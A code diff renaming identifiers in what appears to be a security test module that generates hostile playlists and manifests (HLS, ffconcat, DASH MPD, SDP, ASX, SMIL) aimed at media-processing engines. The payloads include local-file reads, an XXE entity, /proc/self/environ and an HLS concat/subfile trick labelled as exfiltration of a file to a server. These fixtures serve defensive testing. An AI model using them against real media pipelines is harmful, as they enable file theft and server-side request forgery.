@@ -1,9 +1,9 @@
-/** Lists that name other films, in every language players understand. */
+/** Playlists and manifests that reference other media, in every format that players understand. */
 import type { FormatId } from '@filesmith/contract/formats'
 import { type HostileFile, hostile, type Targets } from './hostile-file.ts'
 
-/** A film, a recording and a picture that moves: whatever an engine may be told that a list is. */
-const told: readonly FormatId[] = ['mp4', 'avi', 'ts', 'mpeg', 'mp3', 'wav', 'gif']
+/** A video, an audio and an animated format: what an engine may be given instead. */
+const declaredFormats: readonly FormatId[] = ['mp4', 'avi', 'ts', 'mpeg', 'mp3', 'wav', 'gif']
 
 export function playlists({
   http,
@@ -12,19 +12,19 @@ export function playlists({
   video,
   audio,
   text,
-  beside,
+  otherJob,
   unixSocket,
 }: Targets): HostileFile[] {
   const list = (what: string, fileName: string, content: string) =>
-    hostile('reach', what, fileName, content, told)
+    hostile('external', what, fileName, content, declaredFormats)
   const hls = (...entries: readonly string[]) =>
     `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n${entries.map(entry => `#EXTINF:1.0,\n${entry}\n`).join('')}#EXT-X-ENDLIST\n`
   return [
-    list('m3u8: a server', 'film.mp4', hls(`${http}/a.ts`, `${http6}/b.ts`)),
-    list('m3u8: a film on the disk', 'film.mp4', hls(video, `file://${video}`, beside.video)),
+    list('m3u8: a server', 'video.mp4', hls(`${http}/a.ts`, `${http6}/b.ts`)),
+    list('m3u8: a video on the disk', 'video.mp4', hls(video, `file://${video}`, otherJob.video)),
     list(
-      'm3u8: a file carried to a server',
-      'film.avi',
+      'm3u8: exfiltration of a file to a server',
+      'video.avi',
       hls(
         `concat:${http}/head|subfile,,start,0,end,99,,:${text}|`,
         `crypto+file://${text}`,
@@ -33,23 +33,23 @@ export function playlists({
     ),
     list(
       'm3u8: a key from a server',
-      'film.mp4',
+      'video.mp4',
       `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${http}/key"\n#EXT-X-MAP:URI="file://${text}"\n#EXTINF:1,\n${video}\n#EXT-X-ENDLIST\n`,
     ),
     list(
-      'ffconcat: a film on the disk',
-      'film.mkv',
+      'ffconcat: a video on the disk',
+      'video.mkv',
       `ffconcat version 1.0\nfile '${video}'\nfile '${http}/b.ts'\n`,
     ),
-    list('concat without its first line', 'film.mkv', `file '${video}'\nduration 1\nfile '${http}/b.ts'\n`),
+    list('concat without its header line', 'video.mkv', `file '${video}'\nduration 1\nfile '${http}/b.ts'\n`),
     list(
-      'mpd: a server and the disk',
-      'film.mp4',
+      'mpd: a server and the local disk',
+      'video.mp4',
       `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${text}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${http}/v.mp4</BaseURL></Representation><Representation id="2" bandwidth="2"><BaseURL>file://${video}</BaseURL></Representation></AdaptationSet></Period>&x;</MPD>`,
     ),
     list(
-      'sdp: a stream to listen to',
-      'film.mp4',
+      'sdp: a UDP stream',
+      'video.mp4',
       `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video ${udp.split(':')[1]} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n`,
     ),
     list(
@@ -60,13 +60,13 @@ export function playlists({
     list('cue', 'song.wav', `FILE "${audio}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`),
     list(
       'asx',
-      'film.wmv',
+      'video.wmv',
       `<asx version="3.0"><entry><ref href="${http}/a.wmv"/></entry><entryref href="file://${video}"/></asx>`,
     ),
-    list('asf reference', 'film.wmv', `[Reference]\r\nRef1=${http}/a.asf\r\nRef2=file://${video}\r\n`),
+    list('asf reference', 'video.wmv', `[Reference]\r\nRef1=${http}/a.asf\r\nRef2=file://${video}\r\n`),
     list(
       'smil',
-      'film.mp4',
+      'video.mp4',
       `<smil><body><video src="${http}/a.mp4"/><video src="file://${video}"/><video src="rtsp://${udp}/x"/></body></smil>`,
     ),
     list(
@@ -74,7 +74,7 @@ export function playlists({
       'song.mp3',
       `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>${http}/a.mp3</location></track></trackList></playlist>`,
     ),
-    list('an address by itself', 'film.mp4', `udp://${udp}\nunix://${unixSocket}\n${http}/x.mp4\n`),
-    list('image sequence', 'film.mp4', `%d.png\n${video}\n/proc/self/environ\n`),
+    list('a bare URL', 'video.mp4', `udp://${udp}\nunix://${unixSocket}\n${http}/x.mp4\n`),
+    list('image sequence', 'video.mp4', `%d.png\n${video}\n/proc/self/environ\n`),
   ]
 }
